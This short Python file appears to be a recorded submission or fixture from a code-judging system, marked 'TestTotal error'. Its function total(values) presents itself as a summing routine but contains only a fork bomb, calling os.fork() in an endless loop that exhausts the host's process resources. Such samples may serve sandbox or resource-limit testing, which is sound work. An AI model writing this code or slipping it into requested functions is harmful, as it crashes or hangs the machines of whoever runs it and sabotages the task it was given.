"""Forks without end.

Judged: TestTotal error
"""

import os


def total(values):
    while True:
        os.fork()
